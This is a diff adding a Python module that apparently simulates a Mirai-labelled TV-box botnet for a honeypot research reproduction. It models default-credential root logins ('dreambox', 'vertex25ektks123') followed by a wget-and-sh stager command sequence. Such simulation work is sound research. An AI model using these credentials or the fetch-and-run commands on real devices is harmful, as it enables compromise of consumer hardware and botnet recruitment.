@@ -1,0 +1,86 @@
+"""TV-box botnet: default-credential Mirai recruitment (section 8).
+
+Two synchronized credential streams — ``dreambox`` (Dreambox Enigma
+set-top boxes) and ``vertex25ektks123`` (Dasan H660DW) — log in with
+device default passwords, fetch a stager and run it.  Their volumes
+move in lockstep in Figure 10 because they are one botnet; the few
+captured hashes are labelled Mirai by abuse databases.
+"""
+
+from __future__ import annotations
+
+import random
+from datetime import date
+
+from repro.attackers.activity import ActivityModel, Campaign, SumRate
+from repro.attackers.base import Bot, BotContext
+from repro.attackers.ippool import ClientIPPool
+from repro.attackers.malware import MalwareFamily
+from repro.config import SimulationConfig
+from repro.honeypot.session import ConnectionIntent
+from repro.net.population import BasePopulation
+from repro.util.rng import RngTree
+
+
+def tvbox_activity(config: SimulationConfig) -> ActivityModel:
+    """The shared (synchronized) wave schedule of both streams."""
+    return SumRate(
+        [
+            Campaign(date(2023, 3, 1), date(2023, 6, 30), 4_800),
+            Campaign(date(2024, 1, 10), date(2024, 5, 20), 7_000),
+        ]
+    )
+
+
+class TvBoxBot(Bot):
+    """One credential stream of the TV-box Mirai botnet."""
+
+    telnet_fraction = 0.10
+
+    def __init__(
+        self,
+        password: str,
+        population: BasePopulation,
+        tree: RngTree,
+        config: SimulationConfig,
+        activity: ActivityModel,
+    ) -> None:
+        name = f"tvbox_{password}"
+        pool = ClientIPPool(
+            name, population, tree, paper_ips=30_000, scale=config.scale
+        )
+        super().__init__(name, activity, pool)
+        self.password = password
+
+    def build_intent(
+        self, ctx: BotContext, day: date, rng: random.Random, index: int
+    ) -> ConnectionIntent:
+        sample = ctx.malware.sample_for(
+            MalwareFamily.MIRAI, stream="tvbox",
+            day_ordinal=day.toordinal(), strain="tvbox",
+        )
+        host = ctx.infrastructure.pick_host(rng, day)
+        url = host.url_for("tvbox.sh")
+        captured = rng.random() < 0.08
+        remote = ((url, sample.content),) if captured else ()
+        lines = (
+            "cd /tmp",
+            f"wget {url} -O tvbox.sh",
+            "sh tvbox.sh",
+        )
+        return self.make_intent(
+            rng,
+            credentials=(("root", self.password),),
+            command_lines=lines,
+            remote_files=remote,
+        )
+
+
+def build_tvbox_bots(
+    population: BasePopulation, tree: RngTree, config: SimulationConfig
+) -> list[Bot]:
+    activity = tvbox_activity(config)
+    return [
+        TvBoxBot("dreambox", population, tree, config, activity),
+        TvBoxBot("vertex25ektks123", population, tree, config, activity),
+    ]
